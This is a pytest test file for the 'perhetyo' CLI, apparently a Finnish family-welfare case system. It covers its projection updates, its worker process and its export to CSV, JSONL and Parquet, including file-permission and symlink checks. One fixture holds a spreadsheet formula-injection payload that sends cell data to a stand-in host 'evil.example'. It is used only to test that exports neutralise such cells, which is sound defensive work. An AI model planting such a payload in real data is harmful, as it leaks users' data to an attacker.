"""``perhetyo projections`` and ``perhetyo export``: catching up, status, the worker, files."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Mapping
from datetime import UTC, date, datetime
from pathlib import Path
from select import select as wait_readable
from typing import Any
from uuid import UUID

import orjson
import pyarrow.parquet as pq
import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner, Result

from perhetyo import FamilyCases, GoalStatus, MeetingKind
from perhetyo.cli import ERROR_EXIT_CODE, app
from perhetyo.cli.export import PERSONAL_DATA_REMINDER
from perhetyo.cli.projections import stop_on_signals
from perhetyo.projections.sql import TABLE_NAMES
from perhetyo.reporting import export as export_module
from perhetyo.reporting import read_snapshot
from perhetyo.testing import (
    FakeClock,
    StoryClock,
    a_child,
    an_actor,
    open_sample_case,
    record_demo_story,
)

_ENV: Mapping[str, str | None] = {
    "COLUMNS": "200",
    "NO_COLOR": "1",
    "FORCE_COLOR": None,
    "TTY_COMPATIBLE": None,
    "PERHETYO_URL": None,
    "PERHETYO_VIEWS_URL": None,
}
_DEMO_EVENTS = 41
_DEMO_ROWS = {
    "perhetyo_cases": 1,
    "perhetyo_goals": 7,
    "perhetyo_services": 1,
    "perhetyo_goal_updates": 13,
    "perhetyo_audit_entries": _DEMO_EVENTS,
    "perhetyo_decisions": 1,
    "perhetyo_child_memberships": 3,
    "perhetyo_plan_contents": 0,
    "perhetyo_cancelled_meetings": 0,
    "perhetyo_matters": 1,
    "perhetyo_deadlines": 4,  # the assessment's start and completion, two plan reviews
}

EXPORT = ("export", "--actor", "reporter-1")
"""The export command with the exporting actor's id (an export is a logged read)."""


def _run(*args: str, env: Mapping[str, str | None] | None = None) -> Result:
    return CliRunner().invoke(app, list(args), env={**_ENV, **(env or {})})


def _ok(*args: str) -> Result:
    result = _run(*args)
    assert result.exit_code == 0, result.output
    return result


_LOG_LINE = re.compile(r"^\d{4}-\d{2}-\d{2} [\d:,]+ (DEBUG|INFO|WARNING) perhetyo")


def _one_error_line(result: Result, code: str = "configuration_error") -> str:
    """The one error line; with -v the perhetyo logger's own lines may stand before it."""
    assert result.exit_code == ERROR_EXIT_CODE, result.output
    assert result.stdout == ""
    lines = [
        line
        for line in result.output.strip().splitlines()
        if line and not _LOG_LINE.match(line)
    ]
    assert len(lines) == 1, result.output
    assert lines[0].startswith(f"perhetyo: virhe [{code}]: ")
    return lines[0]


@pytest.fixture
def db_file(tmp_path: Path) -> Path:
    return tmp_path / "demo.db"


@pytest.fixture
def demo_url(db_file: Path) -> str:
    """A SQLite file holding the demo story; its stored views not yet updated."""
    url = f"sqlite:///{db_file}"
    _ok("demo", "--url", url)
    return url


def _demo_case_in(url: str) -> UUID:
    """The demo case's id as the store finds it (a replay of the story records nothing)."""
    clock = StoryClock()
    with FamilyCases(url, clock=clock) as cases:
        return record_demo_story(cases, clock)


def _table_rows(db_file: Path) -> dict[str, int]:
    with contextlib.closing(sqlite3.connect(db_file)) as conn:
        return {
            name: conn.execute(f"SELECT count(*) FROM {name}").fetchone()[0]
            for name in TABLE_NAMES
        }


def _status(url: str) -> list[dict[str, Any]]:
    result = _ok("projections", "status", "--url", url, "--json")
    statuses: list[dict[str, Any]] = json.loads(result.stdout)
    return statuses


def _rows(statuses: list[dict[str, Any]]) -> dict[str, int]:
    return {table: n for status in statuses for table, n in status["rows"].items()}


# --- update, rebuild, status ---------------------------------------------------------------


def test_status_of_a_store_never_updated_shows_the_whole_log_as_lag(demo_url: str) -> None:
    statuses = _status(demo_url)

    assert [s["projection"] for s in statuses] == [
        "CurrentPlan",
        "GoalProgress",
        "AuditTrail",
        "Deadlines",
    ]
    positions = {(s["position"], s["head"], s["lag"]) for s in statuses}
    assert positions == {(0, _DEMO_EVENTS, _DEMO_EVENTS)}
    assert set(_rows(statuses).values()) == {0}


def test_update_applies_every_event_and_status_then_shows_no_lag(
    demo_url: str, db_file: Path
) -> None:
    result = _ok("projections", "update", "--url", demo_url)

    assert f"Näkymät päivitetty: {_DEMO_EVENTS} tapahtumaa käsitelty" in result.stdout
    assert f"{_DEMO_EVENTS}/{_DEMO_EVENTS} tapahtumaa" in result.stderr  # the progress bar
    statuses = _status(demo_url)
    assert {s["lag"] for s in statuses} == {0}
    assert {s["position"] for s in statuses} == {_DEMO_EVENTS}
    assert _rows(statuses) == _table_rows(db_file) == _DEMO_ROWS


def test_a_second_update_applies_nothing(demo_url: str) -> None:
    _ok("projections", "update", "--url", demo_url)

    result = _ok("projections", "update", "--url", demo_url)

    assert "Näkymät päivitetty: 0 tapahtumaa käsitelty" in result.stdout


def test_status_prints_a_table_of_positions_lag_and_rows(demo_url: str) -> None:
    _ok("projections", "update", "--url", demo_url)

    output = _ok("projections", "status", "--url", demo_url).stdout

    lines = [line.split() for line in output.splitlines()]
    assert ["Näkymä", "Kohta", "Lokin", "pää", "Viive", "Taulu", "Rivejä"] in lines
    assert ["CurrentPlan", "41", "41", "0", "perhetyo_cases", "1"] in lines
    assert ["perhetyo_goals", "7"] in lines
    assert ["AuditTrail", "41", "41", "0", "perhetyo_audit_entries", "41"] in lines


def test_rebuild_folds_every_event_into_the_same_rows(demo_url: str, db_file: Path) -> None:
    _ok("projections", "update", "--url", demo_url)

    result = _ok("projections", "rebuild", "--url", demo_url)

    assert f"{_DEMO_EVENTS} tapahtumaa koottu" in result.stdout
    assert {s["lag"] for s in _status(demo_url)} == {0}
    assert _table_rows(db_file) == _DEMO_ROWS
    case_id = _demo_case_in(demo_url)
    with FamilyCases(demo_url) as cases:
        stored = cases.stored_views.current_plan(case_id)
        assert stored == cases.current_plan(case_id, actor=an_actor())


def test_views_url_puts_the_tables_in_another_database(demo_url: str, tmp_path: Path) -> None:
    views = tmp_path / "views.db"

    _ok("projections", "update", "--url", demo_url, "--views-url", f"sqlite:///{views}")

    assert _table_rows(views) == _DEMO_ROWS
    assert _status(demo_url)[0]["lag"] == _DEMO_EVENTS  # the store's own tables untouched


@pytest.mark.parametrize("command", ["update", "rebuild", "status"])
def test_a_missing_sqlite_file_is_refused_not_created(command: str, tmp_path: Path) -> None:
    missing = tmp_path / "typo.db"

    line = _one_error_line(_run("projections", command, "--url", f"sqlite:///{missing}"))

    assert "no SQLite store at" in line
    assert not missing.exists()


# --- export ----------------------------------------------------------------------------------


def _read_csv(path: Path) -> list[dict[str, Any]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def _read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in path.read_bytes().splitlines()]


def _read_parquet(path: Path) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = pq.read_table(path).to_pylist()
    return rows


_READERS: dict[str, Callable[[Path], list[dict[str, Any]]]] = {
    "csv": _read_csv,
    "jsonl": _read_jsonl,
    "parquet": _read_parquet,
}


@pytest.fixture
def exported(
    request: pytest.FixtureRequest, demo_url: str, tmp_path: Path
) -> tuple[str, Path, Result]:
    """The demo store exported in the format given by the test's parameter."""
    fmt: str = request.param
    out = tmp_path / "export" / fmt  # created by the command
    return fmt, out, _ok(*EXPORT, "--url", demo_url, "--out", str(out), "--format", fmt)


@pytest.mark.parametrize("exported", ["csv", "jsonl", "parquet"], indirect=True)
def test_export_writes_one_file_per_table_with_every_row(
    exported: tuple[str, Path, Result], db_file: Path
) -> None:
    fmt, out, result = exported

    assert sorted(path.name for path in out.iterdir()) == sorted(
        f"{name}.{fmt}" for name in TABLE_NAMES
    )
    counts = {name: len(_READERS[fmt](out / f"{name}.{fmt}")) for name in TABLE_NAMES}
    assert counts == _table_rows(db_file) == _DEMO_ROWS
    for name, rows in _DEMO_ROWS.items():
        assert [name, str(out / f"{name}.{fmt}"), str(rows)] in [
            line.split() for line in result.stdout.splitlines()
        ]
    assert f"tapahtumalokin kohta {_DEMO_EVENTS}" in result.stdout
    assert PERSONAL_DATA_REMINDER in result.stdout


@pytest.mark.parametrize("exported", ["csv", "jsonl", "parquet"], indirect=True)
def test_exported_values_keep_their_stored_form(
    exported: tuple[str, Path, Result], demo_url: str
) -> None:
    fmt, out, _ = exported
    read = _READERS[fmt]
    (case,) = read(out / f"perhetyo_cases.{fmt}")
    audit = read(out / f"perhetyo_audit_entries.{fmt}")
    goal_updates = read(out / f"perhetyo_goal_updates.{fmt}")

    children = case["children"] if fmt == "jsonl" else json.loads(case["children"])
    assert [child["display_name"] for child in children] == ["Eetu K.", "Iida K.", "Vauva K."]
    assert children[0]["birth_date"] == "2010-03-15"
    child_views = case["child_views"] if fmt == "jsonl" else json.loads(case["child_views"])
    assert child_views["demo-child-2"].endswith("Nyt ei enää jännitä iltaisin.")
    assert case["case_id"] == str(_demo_case_in(demo_url))
    assert (case["status"], case["legal_basis"]) == ("closed", "child_welfare_act")
    assert str(case["plan_version"]) == "2"
    first = audit[0]
    assert (first["event_type"], str(first["version"])) == ("CaseOpened", "1")
    if fmt == "parquet":
        assert case["opened_on"] == date(2020, 8, 12)
        assert case["successor_case_id"] is None
        assert first["recorded_at"] == datetime(2020, 8, 12, 8, 40, tzinfo=UTC)
    else:
        assert case["opened_on"] == "2020-08-12"
        assert case["successor_case_id"] in ("", None)  # CSV: empty is NULL; JSONL: null
        assert first["recorded_at"] == "2020-08-12T08:40:00+00:00"
    assert [row["version"] for row in audit] == [
        (n if fmt != "csv" else str(n)) for n in range(1, _DEMO_EVENTS + 1)
    ]
    notes = [row["note"] for row in goal_updates]
    assert "Päivärytmi kartoitettu yhdessä vanhempien kanssa." in notes


def test_export_streams_the_rows_in_partitions(
    demo_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_module, "PARTITION_ROWS", 5)

    _ok(*EXPORT, "--url", demo_url, "--out", str(tmp_path), "--format", "parquet")

    audit = pq.ParquetFile(tmp_path / "perhetyo_audit_entries.parquet")
    assert audit.metadata.num_rows == _DEMO_EVENTS
    assert audit.metadata.num_row_groups == -(-_DEMO_EVENTS // 5)  # one per partition of 5 rows
    versions = audit.read(columns=["version"]).column("version").to_pylist()
    assert versions == list(range(1, _DEMO_EVENTS + 1))


@pytest.mark.parametrize("exported", ["csv"], indirect=True)
def test_exported_files_are_readable_by_their_owner_only(
    exported: tuple[str, Path, Result],
) -> None:
    _, out, _ = exported

    assert out.stat().st_mode & 0o777 == 0o700
    assert {path.stat().st_mode & 0o777 for path in out.iterdir()} == {0o600}


def test_an_export_snapshot_neither_blocks_a_writer_nor_sees_its_later_rows(
    shared_store_url: str,
) -> None:
    with FamilyCases(shared_store_url, clock=FakeClock()) as writer, \
            FamilyCases(shared_store_url) as exporter:
        open_sample_case(writer)
        writer.update_projections()
        views = exporter.stored_views
        count = select(func.count()).select_from(views.tables.audit_entries)
        with read_snapshot(views) as conn:
            before = conn.execute(count).scalar_one()
            open_sample_case(writer, children=(a_child("child-2"),))
            started = time.monotonic()
            assert writer.update_projections() == 1  # not held back by the open snapshot
            took = time.monotonic() - started
            during = conn.execute(count).scalar_one()
        with views.engine.connect() as fresh:
            after = fresh.execute(count).scalar_one()

    assert took < 5
    assert (before, during, after) == (1, 1, 2)


def test_export_catches_the_views_up_first_unless_told_not_to(
    demo_url: str, tmp_path: Path
) -> None:
    stale = _ok(*EXPORT, "--url", demo_url, "--out", str(tmp_path / "a"), "--no-update")
    fresh = _ok(*EXPORT, "--url", demo_url, "--out", str(tmp_path / "b"))

    assert len(_read_csv(tmp_path / "a" / "perhetyo_audit_entries.csv")) == 0
    assert "tapahtumalokin kohta 0" in stale.stdout
    assert len(_read_csv(tmp_path / "b" / "perhetyo_audit_entries.csv")) == _DEMO_EVENTS
    assert f"{_DEMO_EVENTS}/{_DEMO_EVENTS} tapahtumaa" in fresh.stderr


def test_export_of_an_in_memory_store_writes_empty_tables(tmp_path: Path) -> None:
    _ok(*EXPORT, "--url", "memory://", "--out", str(tmp_path), "--format", "jsonl")

    assert {path.read_bytes() for path in tmp_path.iterdir()} == {b""}


def test_export_help_says_it_updates_first_and_names_the_extra() -> None:
    output = " ".join(_ok("export", "--help").output.split())

    assert "Päivittää ensin näkymät tapahtumalokin tasalle (ellei --no-update)" in output
    assert "pip install 'perhetyo[reporting]'" in output
    assert "--no-update" in output


def test_an_unknown_format_exits_with_code_2_and_one_line(demo_url: str, tmp_path: Path) -> None:
    result = _run(*EXPORT, "--url", demo_url, "--out", str(tmp_path / "x"), "--format", "xml")

    line = _one_error_line(result)
    assert "unknown export format 'xml': use csv, jsonl, parquet" in line
    assert not (tmp_path / "x").exists()


def test_an_unwritable_out_directory_exits_with_code_2_and_one_line(
    demo_url: str, tmp_path: Path
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")

    result = _run(*EXPORT, "--url", demo_url, "--out", str(blocker / "out"))

    line = _one_error_line(result)
    assert "cannot create the export directory" in line


def test_an_out_path_that_is_a_file_exits_with_code_2_and_one_line(
    demo_url: str, tmp_path: Path
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")

    result = _run(*EXPORT, "--url", demo_url, "--out", str(blocker))

    _one_error_line(result)
    assert blocker.read_text() == "not a directory"


def test_parquet_without_pyarrow_tells_which_extra_to_install(
    demo_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import pyarrow now raises ImportError

    result = _run(*EXPORT, "--url", demo_url, "--out", str(tmp_path / "x"), "--format",
                  "parquet")

    line = _one_error_line(result)
    assert "pip install 'perhetyo[reporting]'" in line
    assert not (tmp_path / "x").exists()


# --- export: files nobody else can read or plant (defect 6) ----------------------------------


@pytest.fixture
def private_out(tmp_path: Path) -> Path:
    """An existing export directory of the user's own, mode 0700."""
    out = tmp_path / "out"
    out.mkdir(mode=0o700)
    return out


@pytest.mark.parametrize("table", ["perhetyo_cases", "perhetyo_audit_entries"])
def test_export_refuses_a_partial_file_planted_beforehand_and_leaves_it_alone(
    table: str, private_out: Path
) -> None:
    planted = private_out / f".{table}.csv.partial"
    planted.write_text("planted by another user")
    planted.chmod(0o666)

    line = _one_error_line(_run(*EXPORT, "--url", "memory://", "--out", str(private_out)))

    assert f".{table}.csv.partial is already in the export directory" in line
    assert planted.read_text() == "planted by another user"
    assert planted.stat().st_mode & 0o777 == 0o666
    assert [path.name for path in private_out.iterdir()] == [planted.name]  # nothing written


@pytest.mark.parametrize("target_exists", [True, False], ids=["to-a-file", "dangling"])
def test_export_never_follows_a_symlink_planted_as_a_partial_file(
    target_exists: bool, private_out: Path, tmp_path: Path
) -> None:
    target = tmp_path / "readable-by-the-attacker.csv"
    if target_exists:
        target.write_text("untouched")
    link = private_out / ".perhetyo_cases.csv.partial"
    link.symlink_to(target)

    _one_error_line(_run(*EXPORT, "--url", "memory://", "--out", str(private_out)))

    assert link.is_symlink()
    assert target.read_text() == "untouched" if target_exists else not target.exists()
    assert [path.name for path in private_out.iterdir()] == [link.name]


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o1777, 0o722], ids=oct)
def test_export_refuses_a_directory_others_can_write(mode: int, private_out: Path) -> None:
    private_out.chmod(mode)

    line = _one_error_line(_run(*EXPORT, "--url", "memory://", "--out", str(private_out)))

    assert f"can be written by others (mode {mode:04o})" in line
    assert list(private_out.iterdir()) == []


def test_export_refuses_the_shared_tmp_directory() -> None:
    line = _one_error_line(_run(*EXPORT, "--url", "memory://", "--out", "/tmp"))  # noqa: S108 (the point of the test)

    assert "export directory /tmp" in line


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a directory to another user")
def test_export_refuses_a_directory_of_another_user(private_out: Path) -> None:
    os.chown(private_out, 65534, 65534)  # nobody: could chmod it and plant files any time

    line = _one_error_line(_run(*EXPORT, "--url", "memory://", "--out", str(private_out)))

    assert "belongs to another user" in line
    assert list(private_out.iterdir()) == []


def test_export_creates_missing_parent_directories_readable_by_the_owner_only(
    tmp_path: Path,
) -> None:
    out = tmp_path / "a" / "b" / "c"

    _ok(*EXPORT, "--url", "memory://", "--out", str(out))

    created = (out, out.parent, out.parent.parent)
    modes = {path.name: path.stat().st_mode & 0o777 for path in created}
    assert modes == {"a": 0o700, "b": 0o700, "c": 0o700}
    assert {path.stat().st_mode & 0o777 for path in out.iterdir()} == {0o600}


_FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
_NEGATIVE = "-1 poissaolo lokakuussa"


@pytest.fixture
def formula_store(tmp_path: Path) -> str:
    """A SQLite store with a goal and a goal update whose texts a spreadsheet would run."""
    url = f"sqlite:///{tmp_path / 'formula.db'}"
    with FamilyCases(url, clock=FakeClock()) as cases:
        case_id = open_sample_case(cases)
        goal_id = cases.set_goal(case_id, description=_FORMULA, set_on=date(2020, 8, 19),
                                 actor=an_actor())
        cases.update_goal(case_id, goal_id, status=GoalStatus.IN_PROGRESS, progress=10,
                          note=_NEGATIVE, updated_on=date(2020, 9, 1), actor=an_actor())
        cases.set_goal(case_id, description="@SUM(A1:A9) ja +1", set_on=date(2020, 8, 19),
                       actor=an_actor())
        cases.set_goal(case_id, description="Arki sujuu = hyvä", set_on=date(2020, 8, 19),
                       actor=an_actor())
    return url


def test_csv_cells_that_start_a_formula_get_a_leading_quote(
    formula_store: str, tmp_path: Path
) -> None:
    out = tmp_path / "csv"

    _ok(*EXPORT, "--url", formula_store, "--out", str(out))

    descriptions = {row["description"] for row in _read_csv(out / "perhetyo_goals.csv")}
    assert descriptions == {f"'{_FORMULA}", "'@SUM(A1:A9) ja +1", "Arki sujuu = hyvä"}
    (update,) = _read_csv(out / "perhetyo_goal_updates.csv")
    assert update["note"] == f"'{_NEGATIVE}"
    assert update["progress"] == "10"  # numbers and dates are not text: left alone
    assert not any(
        cell.startswith(("=", "+", "-", "@"))
        for name in TABLE_NAMES
        for row in _read_csv(out / f"{name}.csv")
        for cell in row.values()
    )


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_formula_like_text_exactly(
    fmt: str, formula_store: str, tmp_path: Path
) -> None:
    out = tmp_path / fmt

    _ok(*EXPORT, "--url", formula_store, "--out", str(out), "--format", fmt)

    goals = _READERS[fmt](out / f"perhetyo_goals.{fmt}")
    (update,) = _READERS[fmt](out / f"perhetyo_goal_updates.{fmt}")
    assert _FORMULA in {goal["description"] for goal in goals}
    assert update["note"] == _NEGATIVE


# --- a corrupted store: one line, no stored content ------------------------------------------

_STORED_MARKER = "STORED-MARKER-8Kq"
"""Planted in the damaged bytes: it must appear in no output."""


@pytest.fixture(params=["not-json", "fields-do-not-validate"])
def corrupted_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """A SQLite store whose one event's stored bytes are damaged (holding the marker).

    The damage looks like an event from before the tamper-evident chain (it begins
    ``{"``), so the chain lets it through and the codec's own check is what refuses it.
    """
    db = tmp_path / "corrupted.db"
    url = f"sqlite:///{db}"
    with FamilyCases(url, clock=FakeClock()) as cases:
        open_sample_case(cases)
    damaged = (
        b'{"\xff' + _STORED_MARKER.encode()
        if request.param == "not-json"
        else orjson.dumps({"children": [{"display_name": _STORED_MARKER}], "x": _STORED_MARKER})
    )
    with contextlib.closing(sqlite3.connect(db)) as conn, conn:
        conn.execute("UPDATE stored_events SET state = ? WHERE originator_version = 1", (damaged,))
    return url


@pytest.mark.parametrize(
    "command",
    [("projections", "update"), ("projections", "rebuild"), (*EXPORT, "--out", "{out}")],
    ids=" ".join,
)
def test_a_corrupted_event_ends_a_command_with_one_line_and_no_stored_content(
    command: tuple[str, ...], corrupted_url: str, tmp_path: Path
) -> None:
    args = [arg.format(out=tmp_path / "out") for arg in command]

    result = _run("-vv", *args, "--url", corrupted_url)

    line = _one_error_line(result, "corrupt_record")
    assert "stored event 1 of case " in line
    assert _STORED_MARKER not in result.output
    assert "Traceback" not in result.output


def test_the_worker_on_a_corrupted_store_stops_with_one_line_on_stderr(
    corrupted_url: str,
) -> None:
    result = _run("projections", "run", "--url", corrupted_url, "--poll-interval", "0.05")

    assert result.exit_code == ERROR_EXIT_CODE, result.output
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("perhetyo: virhe [corrupt_record]: stored event 1 of case ")
    assert _STORED_MARKER not in result.output
    assert "Traceback" not in result.output


def test_status_of_a_corrupted_store_still_shows_the_lag(corrupted_url: str) -> None:
    (first, *_) = _status(corrupted_url)

    assert (first["position"], first["head"], first["lag"]) == (0, 1, 1)


@pytest.mark.parametrize("corrupted_url", ["not-json"], indirect=True)
def test_the_console_script_prints_one_line_for_a_corrupted_store(corrupted_url: str) -> None:
    env = {key: value for key, value in os.environ.items() if not key.startswith("PERHETYO_")}
    result = subprocess.run(
        [sys.executable, "-m", "perhetyo.cli", "projections", "update", "--url", corrupted_url],
        capture_output=True, text=True, env=env, timeout=60, check=False,
    )

    assert result.returncode == ERROR_EXIT_CODE
    assert result.stdout == ""
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("perhetyo: virhe [corrupt_record]: ")
    assert _STORED_MARKER not in result.stderr


# --- the worker ------------------------------------------------------------------------------


def test_a_poll_interval_of_zero_is_refused(tmp_path: Path) -> None:
    result = _run("projections", "run", "--url", f"sqlite:///{tmp_path / 'w.db'}",
                  "--poll-interval", "0")

    _one_error_line(result)


def test_the_worker_stops_on_sigterm_and_restores_the_signal_handlers(tmp_path: Path) -> None:
    """In-process: the command installs its handlers, and puts the previous ones back."""
    before = {sig: signal.getsignal(sig) for sig in (signal.SIGTERM, signal.SIGINT)}
    installed = threading.Event()

    def stop_it() -> None:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            if signal.getsignal(signal.SIGTERM) is not before[signal.SIGTERM]:
                installed.set()
                os.kill(os.getpid(), signal.SIGTERM)
                return
            time.sleep(0.01)

    killer = threading.Thread(target=stop_it)
    killer.start()
    result = _run("projections", "run", "--url", f"sqlite:///{tmp_path / 'w.db'}",
                  "--poll-interval", "0.05")
    killer.join()

    assert installed.is_set()
    assert result.exit_code == 0, result.output
    assert "Pysäytetty hallitusti: 0 tapahtumaa käsitelty tässä ajossa." in result.stdout
    assert {sig: signal.getsignal(sig) for sig in before} == before


def test_a_second_sigint_interrupts_at_once_and_a_second_sigterm_only_stops() -> None:
    stop = threading.Event()
    with stop_on_signals(stop):
        handler = signal.getsignal(signal.SIGINT)
        assert callable(handler)
        handler(signal.SIGINT, None)
        assert stop.is_set()
        handler(signal.SIGTERM, None)
        with pytest.raises(KeyboardInterrupt):
            handler(signal.SIGINT, None)


def test_signal_handlers_are_left_alone_outside_the_main_thread() -> None:
    before = signal.getsignal(signal.SIGTERM)
    seen: list[object] = []

    def in_a_thread() -> None:
        with stop_on_signals(threading.Event()):
            seen.append(signal.getsignal(signal.SIGTERM))

    thread = threading.Thread(target=in_a_thread)
    thread.start()
    thread.join()

    assert seen == [before]


def _start_worker(url: str, *, poll_interval: float = 0.1) -> subprocess.Popen[str]:
    env = {key: value for key, value in os.environ.items() if not key.startswith("PERHETYO_")}
    env.update(COLUMNS="200", NO_COLOR="1")
    return subprocess.Popen(
        [sys.executable, "-m", "perhetyo.cli", "projections", "run", "--url", url,
         "--poll-interval", str(poll_interval)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )


_STARTED = "Näkymien päivittäjä käynnissä"
"""The worker's first line, printed once its signal handlers are in place."""


def _wait_until_started(worker: subprocess.Popen[str]) -> str:
    """The worker's first line (bounded: 20 seconds); after it, a signal stops it cleanly."""
    assert worker.stdout is not None
    ready, _, _ = wait_readable([worker.stdout], [], [], 20)
    line = worker.stdout.readline() if ready else ""
    if _STARTED not in line:
        worker.kill()
        pytest.fail(f"the worker did not start: {line!r} {worker.communicate()[1][-2000:]}")
    return line


def _wait_until_current(cases: FamilyCases, workers: list[subprocess.Popen[str]]) -> None:
    """Until the workers have applied the whole log (bounded: 20 seconds)."""
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        statuses = cases.projection_status()
        if all(s.lag == 0 and s.head > 0 for s in statuses):
            return
        if any(worker.poll() is not None for worker in workers):
            break
        time.sleep(0.05)
    for worker in workers:
        if worker.poll() is None:
            worker.kill()
    pytest.fail("the views did not catch up: " + " | ".join(
        worker.communicate()[1][-2000:] for worker in workers
    ))


def _stop(worker: subprocess.Popen[str], sig: signal.Signals) -> tuple[str, float]:
    """Send ``sig``; the worker's output (after its first line) and how long it took to exit."""
    sent = time.monotonic()
    worker.send_signal(sig)
    try:
        out, err = worker.communicate(timeout=15)
    except subprocess.TimeoutExpired:
        worker.kill()
        out, err = worker.communicate()
        pytest.fail(f"the worker did not stop on {sig.name}: {err[-2000:]}")
    assert worker.returncode == 0, err
    return out, time.monotonic() - sent


def _record_a_case(cases: FamilyCases) -> UUID:
    """Two events: the opening and a meeting."""
    case_id = open_sample_case(cases)
    cases.record_meeting(case_id, kind=MeetingKind.OPENING, held_on=date(2020, 8, 12),
                         summary="Aloitustapaaminen.", actor=an_actor())
    return case_id


def _worker_stops_cleanly(url: str, sig: signal.Signals) -> None:
    with FamilyCases(url, clock=FakeClock()) as cases:
        worker = _start_worker(url)
        try:
            first = _wait_until_started(worker)
            case_id = _record_a_case(cases)
            _wait_until_current(cases, [worker])
            out, took = _stop(worker, sig)
        finally:
            if worker.poll() is None:
                worker.kill()
                worker.communicate()
        stored = cases.stored_views.current_plan(case_id)
        assert stored == cases.current_plan(case_id, actor=an_actor())
    assert took < 3, f"the worker took {took:.1f}s to stop"
    wake = "herätys LISTEN/NOTIFY" if url.startswith("postgresql") else "tarkistus 0.1 s välein"
    assert f"kohta 0, viive 0; {wake}." in first
    assert "(tässä ajossa 2)" in out  # a line per batch, the last one with the total
    assert out.rstrip().endswith("Pysäytetty hallitusti: 2 tapahtumaa käsitelty tässä ajossa.")


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_the_worker_process_catches_up_and_stops_cleanly_on_sqlite(
    sig: signal.Signals, tmp_path: Path
) -> None:
    _worker_stops_cleanly(f"sqlite:///{tmp_path / 'worker.db'}", sig)


@pytest.mark.postgres
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_the_worker_process_catches_up_and_stops_cleanly_on_postgresql(
    sig: signal.Signals, postgres_url: str
) -> None:
    _worker_stops_cleanly(postgres_url, sig)


@pytest.mark.postgres
def test_a_second_worker_on_postgresql_stays_idle_and_stops_cleanly(postgres_url: str) -> None:
    with FamilyCases(postgres_url, clock=FakeClock()) as cases:
        cases.projection_status()  # the tables exist before two workers start
        workers = [_start_worker(postgres_url), _start_worker(postgres_url)]
        try:
            for worker in workers:
                _wait_until_started(worker)
            _record_a_case(cases)
            _wait_until_current(cases, workers)
            outputs = [_stop(worker, signal.SIGTERM)[0] for worker in workers]
        finally:
            for worker in workers:
                if worker.poll() is None:
                    worker.kill()
                    worker.communicate()

    totals = sorted(out.rstrip().rsplit("Pysäytetty hallitusti: ", 1)[1] for out in outputs)
    assert totals == [  # one worker did all the work; the other waited for the lock
        "0 tapahtumaa käsitelty tässä ajossa.",
        "2 tapahtumaa käsitelty tässä ajossa.",
    ]
